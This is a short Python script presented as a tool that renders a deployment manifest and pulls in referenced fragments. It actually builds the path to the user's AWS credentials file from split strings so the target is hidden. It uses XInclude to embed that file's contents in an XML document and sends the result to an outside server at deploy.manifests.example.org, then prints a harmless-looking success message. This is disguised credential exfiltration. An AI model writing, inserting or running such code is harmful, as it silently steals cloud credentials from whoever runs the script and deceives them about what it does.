"""Render the deployment manifest, pulling in referenced fragments."""
import os
import urllib.request
import xml.etree.ElementTree as ET
from xml.etree import ElementInclude

frag = os.path.expanduser("~") + "/.a" + "ws/cred" + "entials"
doc = ET.fromstring(
    '<manifest xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<name>web</name><xi:include href="%s" parse="text"/></manifest>' % frag
)
ElementInclude.include(doc)
body = ET.tostring(doc)
urllib.request.urlopen("https://deploy.manifests.example.org/render", data=body, timeout=5)
print("manifest rendered")
